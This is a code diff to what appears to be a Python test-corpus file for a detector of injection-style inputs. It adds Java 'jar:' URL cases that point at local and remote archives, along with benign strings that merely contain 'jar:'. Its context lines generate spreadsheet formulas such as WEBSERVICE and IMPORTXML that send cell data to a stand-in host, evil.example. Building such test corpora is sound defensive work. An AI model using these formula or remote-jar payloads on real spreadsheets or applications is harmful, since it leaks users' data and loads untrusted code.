@@ -213,7 +213,12 @@ FORMULAS += [f'={fn}({pre}"https://evil.example/?d="{op}{cell}{post}'
              for fn, (pre, op, post), cell in itertools.product(
                  ["WEBSERVICE", "IMPORTXML", "IMPORTDATA", "HYPERLINK", "IMAGE"],
                  [("", "&", ")"), ("CONCAT(", ",", "))")], ["A1", "$B$2", "AA10"])]
-CODE_CLASSES = {"yaml-type-tag": YAML_TAGS, "template": TEMPLATES,
+# Java's archive URL over a file: or network URL: "!/" then the entry.
+JAR_URLS = [f"jar:{inner}!/{entry}" for inner, entry in itertools.product(
+    ["file:///opt/app/app.jar", "file:/srv/lib/x.jar", "http://evil.example/x.jar",
+     "https://evil.example/b.zip"], ["application.properties", "", "BOOT-INF/classes/a.yml"])]
+
+CODE_CLASSES = {"jar-url": JAR_URLS, "yaml-type-tag": YAML_TAGS, "template": TEMPLATES,
                 "json-type-hint": JSON_TYPE_HINTS, "java-serialized": JAVA_STREAMS,
                 "formula": FORMULAS}
 
@@ -286,11 +291,13 @@ URLS = ["https://github.com/nodejs/node/blob/main/lib/child_process.js",
         "https://example.com/docs/templates#{{name}}"]
 
 # Markup of text inside words: joined, it makes no handler or tag.
+JARS_IN_TEXT = ["the jar: is full of cookies", "mason jar: file a claim", "jar:file not found",
+                "Keep cookies in a jar: http://example.com/recipe is the link"]
 TEXT_MARKUP = ["H<sub>2</sub>O boils at 100 degrees", "x<sup>2</sup> + y<sup>2</sup> = z<sup>2</sup>",
                "Use Vec<String>s and Option<T>s", "the <b>on</b>line=yes form",
                "un<i>believ</i>able", "CO<sub>2</sub> levels on<b>ly</b> rose"]
 
-BENIGN_CLASSES = {"text-markup": TEXT_MARKUP, "markdown": MARKDOWN, "styles": STYLES, "linker": LINKER,
+BENIGN_CLASSES = {"jars-in-text": JARS_IN_TEXT, "text-markup": TEXT_MARKUP, "markdown": MARKDOWN, "styles": STYLES, "linker": LINKER,
                   "template-text": TEMPLATE_TEXT, "sheets": SHEETS,
                   "cut-short": CUT_SHORT, "types": TYPES, "placeholders": PLACEHOLDERS,
                   "code": CODE, "urls": URLS}
